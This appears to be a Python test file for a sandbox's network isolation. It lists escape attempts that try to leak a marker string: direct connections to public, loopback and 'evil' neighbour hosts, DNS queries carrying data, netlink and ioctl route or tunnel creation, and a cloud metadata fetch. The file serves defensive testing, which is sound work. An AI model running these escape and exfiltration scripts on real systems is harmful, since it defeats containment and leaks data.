"""Reaching anybody but through the way out."""

from tests.escapes.attempt import Attempt
from tests.escapes.judges import heard, says


def tcp(address: str, family: str = "AF_INET") -> str:
    return f"s = socket.socket(socket.{family}); s.settimeout(4); s.connect({address}); said(s, MARK.encode())"


ATTEMPTS = (
    Attempt(id="net-01", what="connect to a public address", script=tcp("('198.51.100.9', 80)"), escaped=heard("public")),
    Attempt(
        id="net-02",
        what="talk to a service on the host's loopback",
        script=tcp("('127.0.0.1', int(F['SINK_PORT']))"),
        escaped=heard("loopback"),
    ),
    Attempt(
        id="net-03",
        what="the same over IPv6, mapped and by other names of this host",
        script=(
            "for address in ('::ffff:127.0.0.1', '::ffff:10.77.0.2', '::1'):\n"
            "    s = socket.socket(socket.AF_INET6); s.settimeout(3)\n"
            "    port = int(F['EVIL_PORT'] if address.endswith('.2') else F['SINK_PORT'])\n"
            "    if quietly(lambda: s.connect((address, port)) or 1):\n        said(s, MARK.encode())\n"
            "for address in ('127.0.0.2', '0.0.0.0', '10.77.0.1'):\n"
            "    s = socket.socket(); s.settimeout(3)\n"
            "    if quietly(lambda: s.connect((address, int(F['SINK_PORT']))) or 1):\n        said(s, MARK.encode())"
        ),
        escaped=heard("loopback", "evil"),
    ),
    Attempt(
        id="net-04",
        what="a neighbour on the own network",
        script=tcp("('10.77.0.2', int(F['EVIL_PORT']))"),
        escaped=heard("evil"),
    ),
    Attempt(
        id="net-05",
        what="the gateway's own ports, directly",
        script=(
            "for port in (F['DATA_PORT'], F['CONTROL_PORT']):\n"
            "    s = socket.socket(); s.settimeout(3)\n"
            "    if quietly(lambda: s.connect(('127.0.0.1', int(port))) or 1):\n        escaped(port)"
        ),
        escaped=says,
    ),
    Attempt(
        id="net-06",
        what="resolve a name that carries data",
        script="quietly(socket.gethostbyname, f'{MARK}.leak.test'); sh(f'getent hosts {MARK}.leak.test')",
        escaped=heard("resolver"),
    ),
    Attempt(
        id="net-07",
        what="ask the resolver by hand, over UDP and TCP",
        script=(
            "query = b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(p)]) + p.encode() for p in (MARK, 'leak', 'test')) + b'\\0\\0\\1\\0\\1'\n"
            "for address in ('127.0.0.1', '10.77.0.1', '8.8.8.8'):\n"
            "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    quietly(s.sendto, query, (address, 53))"
        ),
        escaped=heard("resolver"),
    ),
    Attempt(
        id="net-08",
        what="make a route or an interface: netlink, ioctl, a tunnel device",
        script=(
            "import fcntl, struct\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "if quietly(lambda: fcntl.ioctl(s, 0x8916, struct.pack('16sHH4s8x', b'lo:9', 2, 0, socket.inet_aton('10.78.0.1')))):\n"
            "    escaped('an address')\n"
            "n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
            "n.send(struct.pack('IHHIIBBBBI', 28, 16, 0x605, 1, 0, 0, 0, 0, 0, 0)[:28])\n"
            "link = struct.pack('=IHHII', 44, 16, 0x605, 1, 0) + struct.pack('=BBHiII', 0, 0, 0, 0, 0, 0) + struct.pack('=HH', 12, 3) + b'rfx0\\0\\0\\0\\0'\n"
            "n.send(link); print(n.recv(4096))\n"
            "if quietly(os.open, '/dev/net/tun', os.O_RDWR) is not None:\n    escaped('tun')\n"
            "print(reader('/proc/net/route'), reader('/proc/net/dev'))\n"
            "if len(reader('/proc/net/route').splitlines()) > 1:\n    escaped('a route')"
        ),
        escaped=says,
        no_user_control="it needs CAP_NET_ADMIN",
    ),
    Attempt(
        id="net-09",
        what="the cloud's metadata service",
        script="import urllib.request\nfor proxies in ({}, None):\n    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))\n    got = quietly(lambda: opener.open('http://169.254.169.254/latest/', timeout=3).read())\n    if got:\n        escaped(got)",
        escaped=says,
        no_control="this machine has none; px-10 and px-30 show the same with addresses that answer",
    ),
)
